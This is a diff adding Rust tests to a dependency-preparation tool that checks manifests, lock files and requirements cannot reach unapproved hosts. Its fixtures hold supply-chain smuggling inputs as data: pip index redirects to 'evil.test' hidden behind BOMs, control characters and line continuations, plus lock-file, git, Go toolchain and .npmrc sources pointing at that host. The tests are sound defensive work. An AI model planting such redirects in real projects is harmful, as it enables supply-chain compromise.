@@ -73,6 +73,77 @@ async fn a_changes_own_tool_configuration_is_left_out() {
     assert!(text(&only(&tree, &base).unwrap(), ".npmrc").await.unwrap().contains("own.test"));
 }
 
+#[tokio::test]
+async fn no_spelling_of_an_option_in_requirements_says_where_from() {
+    for hidden in [
+        "--index-url https://evil.test/",
+        "--index-url=https://evil.test/",
+        "-ihttps://evil.test/",
+        "--pypi-url https://evil.test/",
+        "--extra-index https://evil.test/",
+        "--find-l https://evil.test/",
+        "--trusted-host evil.test",
+        "-e git+https://evil.test/x",
+        "\u{feff}--index-url https://evil.test/",
+        "# a comment\n\u{feff}--index-url https://evil.test/",
+        "toolz==0.12.1\r--index-url https://evil.test/",
+        "toolz==0.12.1\u{c}--index-url https://evil.test/",
+        "toolz==0.12.1\u{2028}--index-url https://evil.test/",
+        "toolz==0.12.1 \\\n# a comment\n--index-url https://evil.test/",
+        "--index-url \\\n    https://evil.test/",
+        "# -*- coding: utf-7 -*-\n--index-url https://evil.test/",
+    ] {
+        let tree = [("requirements.txt", &*format!("{hidden}\nsix==1.16.0\n"))];
+        let demand = only(&tree, &[]).unwrap();
+        let kept = text(&demand, "requirements.txt").await.unwrap();
+        assert!(!kept.contains("evil") && !kept.contains('#'), "{hidden:?}: {kept:?}");
+        assert!(kept.ends_with("six==1.16.0\n"), "{hidden:?}: {kept:?}");
+        assert!(!demand.env.values().chain([&demand.line]).any(|word| word.contains("evil")));
+    }
+}
+
+#[test]
+fn a_lock_file_lets_nobody_be_reached() {
+    let node = r#"{"packages": {"": {}, "node_modules/x": {
+        "resolved": "https://evil.test/x.tgz", "integrity": "sha512-x"}}}"#;
+    let cargo = "version = 4\n[[package]]\nname = 'b'\nversion = '1.0.0'\n\
+                 source = 'registry+https://evil.test/index'\nchecksum = 'ab'\n";
+    let go = "module a\ngo 1.21\ntoolchain evil.test/go1.99.0\nrequire evil.test/b v1.0.0\n\
+              replace c.test/c => evil.test/c v1.0.0\n";
+    let python = "x @ https://evil.test/x.whl --hash=sha256:ab\n\
+                  https://evil.test/y.whl#sha256=ab\n-r https://evil.test/more.txt\n";
+    let manifest = "{\"dependencies\": {\"x\": \"https://evil.test/x.tgz\"}, \
+                    \"publishConfig\": {\"registry\": \"https://evil.test/\"}}";
+    let files = [
+        ("package.json", manifest),
+        ("package-lock.json", node),
+        ("Cargo.toml", "[dependencies]\nb = { git = 'https://evil.test/b' }\n"),
+        ("Cargo.lock", cargo),
+        ("go.mod", go),
+        ("go.sum", "evil.test/b v1.0.0 h1:x\nevil.test/b v1.0.0/go.mod h1:y\n"),
+        ("go.work", "go 1.21\ntoolchain evil.test/go1.99.0\nuse .\n"),
+        ("requirements.txt", python),
+        // Only the root's is the tool's own configuration.
+        ("deep/.npmrc", "registry=https://evil.test/\n"),
+    ];
+    // Whether the change brings it or it was there before.
+    let config = PrepareConfig::new("/x").hosts(["own.test".parse().unwrap()]);
+    let hosts = hosts::egress(&config, &Sources::of(&files)).hosts;
+    assert_eq!(hosts, config.hosts);
+    for demand in demands(&Sources::of(&files), &Sources::default()).unwrap() {
+        let told = demand.env.values().chain([&demand.line]).any(|word| word.contains("evil"));
+        assert!(!told, "{demand:?}");
+    }
+}
+
+#[test]
+fn go_never_fetches_the_toolchain_that_a_module_names() {
+    let module = "module a\ngo 1.21\ntoolchain go1.99.0\nrequire b.test/b v1.0.0\n";
+    let demand = only(&[("go.mod", module)], &[]).unwrap();
+    assert_eq!(demand.env["GOTOOLCHAIN"], "local");
+    assert!(demand.offer.env.contains(&("GOTOOLCHAIN", "local")), "nor do the checks");
+}
+
 #[test]
 fn python_hashes_count_when_every_requirement_has_one() {
     let hashed = "# pinned\nsix==1.16.0 \\\n    --hash=sha256:ab \\\n    --hash=sha256:cd\n";
